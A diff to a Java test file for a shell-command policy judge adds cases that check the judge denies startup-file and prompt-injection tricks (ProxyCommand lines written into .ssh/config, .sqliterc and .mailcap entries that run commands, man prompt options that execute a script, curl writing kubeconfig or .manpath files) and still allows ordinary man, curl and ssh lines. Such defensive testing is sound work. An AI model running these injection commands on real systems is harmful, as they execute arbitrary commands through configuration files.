@@ -1,5 +1,7 @@
 package dev.gatehouse.policy.shell;
 
+import static org.assertj.core.api.Assertions.assertThat;
+
 import java.nio.file.Path;
 import java.util.HashMap;
 import java.util.List;
@@ -242,5 +244,48 @@ class ShellAttack17apTest {
       "printf '%s' 'KUBECONFIG' | curl -s --create-dirs --output-dir .kube -o config file:///dev/stdin; kubectl get pods"})
   void denyListCurlOutputDirKubeconfig(String template, @TempDir Path tmp) throws Exception {
     BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template.replace("KUBECONFIG", ShellAttack17ahTest.KUBECONFIG), tmp, false);
+  }
+
+  // Fix pass 17apD: variants of the man-prompt, .manpath and --output-dir groups.
+
+  @ParameterizedTest(name = "deny-list, at the prompt (fix 17apD variants): {0}")
+  @ValueSource(strings = {
+      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii -7r'x$-oks$' -l -; sh ks",
+      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii --prom 'x$-oks$' -l -; sh ks",
+      "printf '.nf\\ntouch WITNESS\\n' | env MANLESS='x$-oks$' man -E ascii -l -; sh ks",
+      "mkdir m; " + MANPATH + "tee m/.manpath; curl -s --output-dir . -O file:///proc/self/cwd/m/.manpath; man ls",
+      "mkdir m; " + MANPATH + "tee m/.manpath; curl -s -O --output-dir ./ file:///proc/self/cwd/m/.manpath; man ls"})
+  void denyListFixVariants(String template, @TempDir Path tmp) throws Exception {
+    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template, tmp, true);
+  }
+
+  /** Judge only: ssh and sqlite3 read the passwd home, and no mailcap viewer is installed here, so no witness runs. */
+  @ParameterizedTest(name = "refused (fix 17apD): {0}")
+  @ValueSource(strings = {
+      "curl -so .ssh/config https://x/c; git ls-remote x:y",
+      "printf 'Host *\\n ProxyCommand touch W\\n' | sort -o .ssh/config; git fetch",
+      "curl -s --output-dir .ssh -o config https://x/c",
+      "curl -s --output-dir \"$d\" -o config https://x/c",
+      "curl -s --output-dir \"$d\" -O https://x/a.tgz",
+      "echo '.system touch W' > .sqliterc; sqlite3 db 'select 1'",
+      "echo 'text/plain; touch W' > .mailcap",
+      "MANLESS='-oks' man ls",
+      "export MANLESS='x$-oks$'",
+      "man -r \"$p\" ls"})
+  void relativeStartupFilesAndManPromptsAreRefused(String text) {
+    for (ShellJudgement j : new ShellJudgement[] {DEFAULT.judge(text), DEFAULT.judgeTyped(text), OPERATOR_LIST.judgeTyped(text)}) {
+      assertThat(j.verdict().label()).as("%s: %s", text, j.commands()).isNotEqualTo("allow");
+    }
+  }
+
+  @ParameterizedTest(name = "stays allowed (fix 17apD): {0}")
+  @ValueSource(strings = {
+      "man ls", "man 5 crontab", "man -k ssh", "man -k 'ssh$'", "man -r 'Manual page $MAN_PN ?ltline %lt' ls",
+      "man -Lfr_FR ls", "curl -s https://x", "curl -o out.json https://x", "curl --output-dir /tmp -O https://x/a.tgz",
+      "curl --output-dir dl -o out.json https://x", "cat .ssh/config",
+      "ssh-keygen -l -f .ssh/id.pub"})
+  void everydayLinesNearTheFixStayAllowed(String text) {
+    assertThat(DEFAULT.judge(text).verdict().label()).as(text).isEqualTo("allow");
+    assertThat(DEFAULT.judgeTyped(text).verdict().label()).as(text).isEqualTo("allow");
   }
 }
